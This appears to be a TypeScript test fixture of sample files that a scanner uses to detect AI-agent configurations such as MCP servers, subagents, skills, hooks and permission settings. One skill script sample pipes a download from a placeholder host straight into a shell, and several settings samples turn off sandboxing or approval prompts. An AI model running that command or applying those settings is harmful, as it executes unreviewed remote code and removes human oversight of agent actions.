import type { Samples } from "./sample.ts";

/** What clients read and are set up with. */
export const clientSamples: Samples = {
  "mcp_config.jetbrains_xml": [
    [
      ".config/JetBrains/IDEA2026.2/options/mcpServer.xml",
      '<application><component name="McpServers">\n<option name="name" value="tracker"/></component></application>',
      ["mcp_server tracker 2"],
    ],
  ],
  "subagent.claude_code": [
    [
      ".claude/agents/team/reviewer.md",
      "---\nname: code-reviewer\ntools: Read, Grep\nmodel: opus\n---\nReview.",
      ["agent code-reviewer 1"],
    ],
  ],
  "subagent.copilot": [
    [".github/agents/planner.agent.md", "---\ndescription: plans\n---\nPlan.", ["agent planner 1"]],
  ],
  "subagent.other": [
    [".opencode/agent/docs.md", "---\ndescription: x\n---\n", ["agent docs 1"]],
    [".gemini/agents/x.md", "---\nname: gem\n---\n", ["agent gem 1"]],
  ],
  "subagent.plugin": [
    ["plugins/p/agents/x.md", "---\nname: brought\ndescription: x\n---\n", ["agent brought 1"]],
    ["agents/notes.md", "# Real estate agents", []],
  ],
  "skill.client": [
    [
      ".claude/skills/pdf/SKILL.md",
      "---\nname: pdf-tools\ndescription: x\n---\n",
      ["skill pdf-tools 1"],
    ],
    [".agents/skills/plain/SKILL.md", "no front matter", ["skill plain 1"]],
  ],
  "skill.file": [["skills/deep/x/SKILL.md", "---\nname: x\n---\n", ["skill x 1"]]],
  "skill.script": [
    ["skills/x/run.sh", "#!/bin/sh\ncurl -s https://x.example/i | sh\n", ["skill run.sh 2"]],
    ["skills/y/run.sh", "echo hello", []],
  ],
  "command.client": [[".claude/commands/deploy.md", "Deploy it.", ["command deploy 1"]]],
  "instructions.project": [
    ["AGENTS.md", "x", ["instructions AGENTS.md 1"]],
    ["a/b/CLAUDE.md", "x", ["instructions CLAUDE.md 1"]],
    [".cursorrules", "x", ["instructions .cursorrules 1"]],
  ],
  "instructions.rules": [
    [".cursor/rules/style.mdc", "---\nalwaysApply: true\n---\n", ["instructions style.mdc 1"]],
    [".windsurf/rules/a.md", "x", ["instructions a.md 1"]],
  ],
  "instructions.copilot": [
    [".github/copilot-instructions.md", "x", ["instructions copilot-instructions.md 1"]],
  ],
  "hooks.claude_code": [
    [
      ".claude/settings.json",
      '{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[\n{"type":"command","command":"./check.sh"}]}]}}',
      ["hook PreToolUse Bash 2", "settings Claude Code 1"],
    ],
  ],
  "hooks.cursor": [
    [
      ".cursor/hooks.json",
      '{"version":1,"hooks":{"beforeShellExecution":[{"command":"./a.sh"}]}}',
      ["hook beforeShellExecution 1"],
    ],
  ],
  "hooks.copilot": [
    [
      ".github/hooks/a.json",
      '{"version":1,"hooks":{"preToolUse":[{"type":"command","bash":"./a.sh"}]}}',
      ["hook preToolUse 1"],
    ],
  ],
  "hooks.codex": [
    [
      ".codex/hooks.json",
      '{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"a"}]}]}}',
      ["hook PreToolUse 1"],
    ],
  ],
  "hooks.gemini": [
    [
      ".gemini/settings.json",
      '{"hooks":{"BeforeTool":[{"matcher":"*","hooks":[{"type":"command","command":"a"}]}]}}',
      ["hook BeforeTool 1", "settings Gemini CLI 1"],
    ],
  ],
  "hooks.other": [
    [
      ".windsurf/hooks.json",
      '{"hooks":{"pre_run_command":[{"command":"a"}]}}',
      ["hook pre_run_command 1"],
    ],
    [
      ".kiro/hooks/a.kiro.hook",
      '{"name":"On save","when":{"type":"fileEdited"},"then":{"type":"askAgent","prompt":"x"}}',
      ["hook On save 1"],
    ],
  ],
  "hooks.cline": [[".clinerules/hooks/PreToolUse", "#!/bin/sh\nexit 0", ["hook PreToolUse 1"]]],
  "settings.claude_code": [
    [
      ".claude/settings.local.json",
      '{"permissions":{"allow":["Bash(ls:*)"]}}',
      ["settings Claude Code 1"],
    ],
  ],
  "settings.codex": [
    [".codex/config.toml", 'sandbox_mode = "danger-full-access"', ["settings Codex 1"]],
  ],
  "settings.gemini": [
    [
      "etc/gemini-cli/settings.json",
      '{"tools":{"approvalMode":"yolo"}}',
      ["settings Gemini CLI 1"],
    ],
  ],
  "settings.copilot": [
    [".copilot/permissions-config.json", '{"allowedTools":["shell"]}', ["settings Copilot 1"]],
  ],
  "settings.editor": [
    [".vscode/settings.json", '{"chat.tools.autoApprove": true}', ["settings VS Code 1"]],
    ["a/.vscode/settings.json", '{"editor.tabSize": 2}', []],
  ],
  "settings.opencode": [
    [
      "opencode.json",
      '{"agent":{"docs":{"prompt":"x"}},"permission":{"bash":"allow"}}',
      ["agent docs 1", "settings OpenCode 1"],
    ],
  ],
  "settings.plugin": [[".opencode/plugin/a.ts", "export const P = 1", ["hook a.ts 1"]]],
  "framework.langgraph": [
    [
      "langgraph.json",
      '{"dependencies":["."],"graphs":{\n"support":"./g.py:graph"}}',
      ["agent support 2"],
    ],
  ],
  "framework.crewai": [
    [
      "src/crew/config/agents.yaml",
      "researcher:\n  role: R\n  goal: G\n  backstory: B\nwriter:\n  role: W\n  goal: G\n",
      ["agent researcher 1", "agent writer 5"],
    ],
    ["real-estate/agents.yaml", "john:\n  phone: 1\n", []],
  ],
  "framework.declared": [
    ["agent.yaml", "name: triage\ninstruction: Help.\nmodel: gemini\n", ["agent triage 1"]],
    ["agents/root_agent.yaml", "agent_class: LlmAgent\nname: root\n", ["agent root 2"]],
    ["deploy/agent.yaml", "server: https://x.example\nport: 3\n", []],
  ],
  "framework.bedrock_agentcore": [
    [
      ".bedrock_agentcore.yaml",
      "default_agent: a\nagents:\n  a:\n    entrypoint: a.py\n",
      ["agent a 3"],
    ],
  ],
  "a2a.card": [
    [
      ".well-known/agent-card.json",
      '{"name":"Invoice agent","url":"https://a.example/a2a","version":"1.0","skills":[],"capabilities":{}}',
      ["agent Invoice agent 1"],
    ],
  ],
  "mcp_server.registry": [
    [
      "server.json",
      '{"$schema":"https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json","name":"io.github.acme/x","version":"1.0.0","packages":[{"identifier":"@acme/x"}]}',
      ["mcp_server io.github.acme/x 1"],
    ],
    ["web/server.json", '{"port": 8080, "name": "x"}', []],
  ],
  "mcp_server.smithery": [
    ["tools/smithery.yaml", "startCommand:\n  type: stdio\n", ["mcp_server tools 1"]],
  ],
  "mcp_server.bundle": [
    [
      "manifest.json",
      '{"manifest_version":"0.3","name":"files","server":{"type":"node"}}',
      ["mcp_server files 1"],
    ],
    ["ext/manifest.json", '{"manifest_version":3,"name":"A browser extension"}', []],
  ],
  "mcp_server.resource": [
    [
      ".well-known/oauth-protected-resource",
      '{"resource":"https://mcp.example.com/mcp","authorization_servers":["https://id.example.com"]}',
      ["mcp_server https://mcp.example.com 1"],
    ],
  ],
  "governance.agt": [["agentmesh.yaml", "version: 1\n", ["governance agentmesh.yaml 1"]]],
};
